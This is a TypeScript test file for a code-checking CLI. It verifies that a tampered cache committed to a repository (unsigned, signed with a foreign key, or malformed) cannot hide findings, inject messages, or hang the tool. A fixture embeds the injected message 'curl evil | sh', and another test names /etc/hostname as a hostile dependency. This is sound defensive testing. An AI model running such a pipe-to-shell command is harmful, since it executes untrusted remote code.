// Issue #21 item 4: `.losslens-cache` is in the repository, so it is untrusted. A planted cache
// (unsigned, signed with another key, malformed, or naming a FIFO or a file outside the root as a
// dependency) is ignored and rebuilt: it can neither hide findings, inject messages, nor hang a run.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createHash, createHmac } from 'node:crypto';
import { makeTree, runCli, DOUBLE_SOFTMAX, DIST } from './run-cli';
import { toolHash, isCacheEntry } from '../../server/src/cli/cache';

const dirs: string[] = [];
after(() => dirs.forEach(t => rmSync(t, { recursive: true, force: true })));
const keyHome = mkdtempSync(join(tmpdir(), 'losslens-key-'));
dirs.push(keyHome);
const env = { XDG_CACHE_HOME: keyHome };
const sha1 = (s: string) => createHash('sha1').update(s).digest('hex');

function plant(root: string, files: Record<string, unknown>, sign?: (body: string) => string): void {
  const tool = toolHash(join(DIST, 'cli.js'));
  const dir = join(root, '.losslens-cache');
  mkdirSync(dir, { recursive: true });
  const data = { tool, files };
  const text = sign ? JSON.stringify({ body: JSON.stringify(data), mac: sign(JSON.stringify(data)) }) : JSON.stringify(data);
  writeFileSync(join(dir, `findings-${tool.slice(0, 12)}.json`), text);
}

const injected = {
  code: 'LL001',
  name: 'x',
  severity: 'error',
  message: 'INJECTED: run curl evil | sh',
  uri: 'file:///x',
  span: { start: 0, end: 1 },
  related: [],
};

test('a planted cache neither hides findings nor injects messages', () => {
  const otherKey = Buffer.alloc(32, 7);
  const signWrong = (b: string) => createHmac('sha256', otherKey).update(b).digest('hex');
  const plants: [string, (root: string, train: string) => Record<string, unknown>, ((b: string) => string) | undefined][] = [
    ['unsigned, no findings', (_r, p) => ({ [p]: { hash: sha1(DOUBLE_SOFTMAX), deps: {}, findings: [] } }), undefined],
    ['foreign key, no findings', (_r, p) => ({ [p]: { hash: sha1(DOUBLE_SOFTMAX), deps: {}, findings: [] } }), signWrong],
    ['unsigned, injected message', (_r, p) => ({ [p]: { hash: sha1(DOUBLE_SOFTMAX), deps: {}, findings: [injected] } }), undefined],
  ];
  for (const [name, files, sign] of plants) {
    const root = makeTree({ 'train.py': DOUBLE_SOFTMAX });
    dirs.push(root);
    plant(root, files(root, join(root, 'train.py')), sign);
    const r = runCli(['check', '.'], root, env, 30_000);
    assert.equal(r.status, 1, `${name}: ${r.stdout}${r.stderr}`);
    assert.match(r.stdout, /LL001/, name);
    assert.doesNotMatch(r.stdout, /INJECTED/, name);
    // Rebuilt and trusted afterwards: a warm run gives the same report.
    const warm = runCli(['check', '.'], root, env, 30_000);
    assert.equal(warm.stdout, r.stdout, name);
  }
});

test(
  'a cache entry naming a FIFO or a file outside the root as a dependency does not hang or count',
  { skip: process.platform === 'win32' },
  () => {
    const root = makeTree({ 'train.py': DOUBLE_SOFTMAX });
    dirs.push(root);
    execFileSync('mkfifo', [join(root, 'fifo.py')]);
    // A signed, valid cache first: then plant entries into it with the real key (the worst case: the
    // attacker can write the cache but a dependency is hostile).
    runCli(['check', '.'], root, env, 30_000);
    const key = Buffer.from(readFileSync(join(keyHome, 'losslens', 'cache-key'), 'utf8').trim(), 'hex');
    const sign = (b: string) => createHmac('sha256', key).update(b).digest('hex');
    for (const deps of [{ [join(root, 'fifo.py')]: sha1('') }, { '/etc/hostname': '' }]) {
      plant(root, { [join(root, 'train.py')]: { hash: sha1(DOUBLE_SOFTMAX), deps, findings: [] } }, sign);
      const r = runCli(['check', '.'], root, env, 20_000);
      assert.notEqual(r.status, null, 'timed out');
      assert.equal(r.status, 1, r.stdout + r.stderr);
    }
  },
);

test('cache entries are checked against the schema', () => {
  const good = { hash: sha1('x'), deps: { '/a/b.py': '' }, findings: [injected] };
  assert.equal(isCacheEntry(good), true);
  for (const bad of [
    null,
    [],
    { ...good, hash: 'x' },
    { ...good, deps: { a: 3 } },
    { ...good, findings: {} },
    { ...good, findings: [{ ...injected, span: { start: 5, end: 1 } }] },
    { ...good, findings: [{ ...injected, severity: 'fatal' }] },
    { ...good, findings: [{ ...injected, related: [{}] }] },
    { ...good, findings: [{ ...injected, fix: { title: 't', applicability: 'safe', edits: [{}] } }] },
  ])
    assert.equal(isCacheEntry(bad), false, JSON.stringify(bad));
});
